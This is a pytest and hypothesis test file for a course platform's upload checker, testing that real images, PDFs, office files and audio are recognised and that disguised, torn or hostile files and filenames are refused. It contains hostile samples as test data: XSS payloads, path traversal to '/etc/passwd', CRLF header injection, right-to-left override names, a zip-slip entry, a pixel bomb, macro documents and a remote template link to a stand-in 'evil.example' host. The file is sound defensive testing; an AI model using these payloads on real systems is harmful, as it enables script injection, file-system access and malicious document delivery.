"""What a file is, by its content: each honest one is known, each disguise is seen through."""

import io
import random
import zipfile
from contextlib import suppress
from dataclasses import replace

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from PIL import Image

from courses.domain.uploading.kinds import Unfit, look_into
from courses.domain.uploading.words import harmless_name
from plugins.api import FileKind
from tests.factories import files

EVERY = tuple(FileKind)


def look(content: bytes, kinds=EVERY):
    looked = look_into(io.BytesIO(content), size=len(content), kinds=kinds)
    kept = replace(looked, content=io.BytesIO(looked.content.read()))
    looked.close()
    return kept


def refusal(content: bytes, kinds=EVERY) -> str:
    with pytest.raises(Unfit) as caught:
        look(content, kinds)
    return caught.value.code


@pytest.mark.parametrize(
    ("content", "kind", "extension"),
    [
        (files.picture("JPEG"), FileKind.IMAGE, "jpg"),
        (files.picture("PNG"), FileKind.IMAGE, "png"),
        (files.picture("WEBP"), FileKind.IMAGE, "webp"),
        (files.picture("GIF"), FileKind.IMAGE, "png"),
        (files.pdf(), FileKind.PDF, "pdf"),
        (files.office("docx"), FileKind.DOCUMENT, "docx"),
        (files.office("xlsx"), FileKind.SHEET, "xlsx"),
        (files.office("pptx"), FileKind.SLIDES, "pptx"),
        ("今天他说：没人听。".encode(), FileKind.TEXT, "txt"),
        ("今天他说：没人听。".encode("gb18030"), FileKind.TEXT, "txt"),
        (files.mp3(), FileKind.AUDIO, "mp3"),
        (files.mp3(tag=b"T" * 300), FileKind.AUDIO, "mp3"),
        (files.wav(), FileKind.AUDIO, "wav"),
        (files.m4a(), FileKind.AUDIO, "m4a"),
        (files.ogg(), FileKind.AUDIO, "ogg"),
        (files.webm(), FileKind.AUDIO, "webm"),
    ],
)
def test_honest_files_are_known(content, kind, extension):
    looked = look(content)
    assert (looked.kind, looked.extension) == (kind, extension)


def test_a_picture_loses_place_camera_and_comment_and_stands_upright():
    content = files.picture("JPEG", (640, 480))
    assert b"Canary Camera" in content
    made = look(content).content.read()
    assert not any(word in made for word in (b"Canary", b"canary", b"Exif", files.PLACE.encode()))
    picture = Image.open(io.BytesIO(made))
    assert picture.size == (480, 640)
    assert not picture.getexif()


def test_html_inside_a_picture_does_not_survive():
    for form in ("GIF", "PNG", "JPEG"):
        made = look(files.picture(form) + b"<script>alert(document.domain)</script>").content.read()
        assert b"script" not in made


def test_a_large_photograph_is_made_smaller():
    made = look(files.picture("JPEG", (6000, 3000))).content
    assert max(Image.open(made).size) <= 4096


def test_a_bomb_of_pixels_is_not_unpacked():
    made = io.BytesIO()
    Image.new("1", (20_000, 20_000)).save(made, "PNG")
    assert len(made.getvalue()) < 200_000
    assert refusal(made.getvalue()) == "pixels"


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "empty"),
        (b"<!doctype html><script>alert(1)</script>", "kind"),
        (b"\xef\xbb\xbf  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "kind"),
        (b"<?xml version='1.0'?><svg/>", "kind"),
        (b"MZ" + b"\0" * 500, "kind"),
        (b"\x7fELF" + b"\0" * 500, "kind"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "kind"),
        (b"text with \x00 a hole", "kind"),
        (b"GIF89a<script>alert(1)</script>", "damaged"),
        (files.picture("JPEG")[:900], "damaged"),
        (files.picture("PNG")[:-60], "damaged"),
        (files.pdf()[:-40], "damaged"),
        (b"junk" + files.pdf(), None),
        (files.office("docx")[:-30], "damaged"),
        (files.office("docx", **{"word__vbaProject.bin": b"x"}), "macros"),
        (files.m4a(b"vide"), "kind"),
        (files.m4a()[:-100], "kind"),
        (files.mp3(2)[:500], "damaged"),
        (files.ogg(b"\x80theora" + b"\0" * 30), "damaged"),
        (files.webm(b"A_OPUS V_VP9"), "kind"),
        (files.wav()[:5000], "damaged"),
    ],
)
def test_disguises_and_torn_files_are_refused(content, code):
    if code is None:  # what stands before a PDF makes it text at most, and never a PDF
        looked = look(content)
        assert looked.kind is FileKind.TEXT
        return
    assert refusal(content) == code


def zipped(**parts) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def test_archives_are_no_documents():
    assert refusal(zipped(readme="x")) == "kind"
    assert refusal(files.office("docx", huge=b"\0" * 60_000_000)) == "archive"
    assert refusal(files.office("docx", **{"..__..__evil.xml": b"x"})) == "archive"
    types = {"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml", "word/document.xml": "x"}
    assert refusal(zipped(**types)) == "macros"
    links = '<Relationship Type="…/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
    assert refusal(files.office("docx", **{"word___rels__settings.xml.rels": links.encode()})) == "macros"


def test_a_kind_that_is_not_asked_for_is_refused():
    assert refusal(files.pdf(), (FileKind.IMAGE,)) == "kind"
    assert refusal(files.wav(), (FileKind.PDF, FileKind.TEXT)) == "kind"


@settings(deadline=None, max_examples=150)
@given(
    st.integers(0, 2**32), st.sampled_from(["jpg", "png", "pdf", "docx", "m4a", "mp3", "ogg", "webm", "wav", "none"])
)
@example(seed=36074, form="jpg")  # says it has more than there is
def test_torn_and_twisted_bytes_never_raise_anything_else(seed, form):
    chance = random.Random(seed)
    honest = {
        "jpg": files.picture("JPEG", (40, 30)), "png": files.picture("PNG", (40, 30)), "pdf": files.pdf(),
        "docx": files.office(), "m4a": files.m4a(), "mp3": files.mp3(), "ogg": files.ogg(), "webm": files.webm(),
        "wav": files.wav(), "none": chance.randbytes(300),
    }[form]  # fmt: skip
    content = bytearray(honest)
    for _twist in range(chance.randrange(1, 12)):
        content[chance.randrange(len(content))] = chance.randrange(256)
    del content[chance.randrange(1, len(content) + 1) :]
    with suppress(Unfit):  # a refusal is fine, anything else is not
        assert look(bytes(content)).kind in EVERY


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("观察记录.exe", "观察记录.jpg"),
        ("../../etc/passwd", "passwd.jpg"),
        ("C:\\Users\\x\\照片.jpg", "照片.jpg"),
        ("a\x00b\r\nSet-Cookie: x.jpg", "ab Set-Cookie x.jpg"),
        ("gpj.\u202eexe", "gpj.jpg"),
        ("", "file.jpg"),
        (".htaccess", "file.jpg"),
        ("CON.txt", "file CON.jpg"),
        ('"><img src=x onerror=alert(1)>.png', "img src=x onerror=alert(1).jpg"),
    ],
)
def test_names_harm_nothing(name, safe):
    assert harmless_name(name, "jpg") == safe


@given(st.text(max_size=400))
def test_any_name_becomes_a_short_plain_one(name):
    safe = harmless_name(name, "pdf")
    assert safe.endswith(".pdf")
    assert 5 <= len(safe) <= 90
    assert not set(safe) & set('/\\<>"\x00\n\r:|?*')
